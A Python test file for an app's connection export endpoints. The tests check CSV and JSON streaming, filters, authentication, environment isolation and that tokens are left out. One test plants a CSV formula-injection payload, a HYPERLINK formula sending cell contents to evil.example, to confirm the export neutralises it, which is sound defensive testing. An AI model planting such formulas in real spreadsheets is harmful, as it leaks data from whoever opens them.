"""The download of the filtered connections."""

import csv
import io

import pytest
from sqlalchemy import update

from onboarding.store.connections import ChannelConnection
from tests.browser_client import BrowserClient, Site

CSV, JSON = "/exports/connections.csv", "/exports/connections.json"


def test_files_have_every_connection_of_the_filters_in_their_order(site: Site, operator: BrowserClient) -> None:
    # More than are read at a time.
    list(site.runtime.demo_connections.create("Development", 1100))
    answer = operator.asks("GET", f"{CSV}?sort=workspace")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="connections-20')
    assert "Content-Length" not in answer.headers, "it is streamed"
    rows = _rows(answer.text)
    names = [(one["workspace_name"] or one["workspace_id"]).casefold() for one in rows]
    assert (len({one["identifier"] for one in rows}), names) == (1100, sorted(names))
    found = operator.asks("GET", f"{JSON}?status=needs_reconnect&mode=shared").json()["data"]
    assert {(one["status"], one["connectionMode"]) for one in found} == {("needs_reconnect", "shared")}
    assert len(found) == sum(one["status"] == "needs_reconnect" and one["mode"] == "shared" for one in rows)
    assert operator.asks("GET", f"{JSON}?q=nobody").json() == {"data": []}
    assert "xoxb-" not in answer.text
    assert "auth" not in found[0]


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t=", "\r=", "＝"])
def test_no_value_is_run_as_a_formula(beginning: str, site: Site, operator: BrowserClient) -> None:
    operator.connects(site.link())
    name = f'{beginning}HYPERLINK("https://evil.example/?" & A1, "Press, here")'
    with site.runtime.database.transaction() as session:
        session.execute(update(ChannelConnection).values(workspace_name=name))
    (row,) = _rows(operator.asks("GET", CSV).text)
    assert row["workspace_name"] == f"'{name}"
    assert row["subscriber_id"] == "bea"
    (found,) = operator.asks("GET", JSON).json()["data"]
    assert found["workspace"]["name"] == name


def test_unknown_value_of_a_filter_and_other_formats_are_refused(site: Site, operator: BrowserClient) -> None:
    operator.connects(site.link())
    page = operator.opens(f"{CSV}?status=broken")
    assert (page.status, page.name) == (400, "problem")
    assert "status" in page.text
    assert operator.opens("/exports/connections.xml").status == 404
    listed = operator.opens("/connections?q=acme&status=healthy")
    assert 'href="/exports/connections.csv?q=acme&amp;status=healthy"' in listed.text
    assert "/exports/" not in operator.opens("/connections?status=broken").text


def test_files_have_nothing_of_another_environment(site: Site, visitor: BrowserClient, operator: BrowserClient) -> None:
    operator.connects(site.link())
    assert visitor.asks("GET", CSV).status_code == 401
    site.add_environment("Production")
    environment_id = site.runtime.environments.named("Production").id
    with site.runtime.database.transaction() as session:
        session.execute(update(ChannelConnection).values(environment_id=environment_id))
    assert _rows(operator.asks("GET", CSV).text) == []


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))
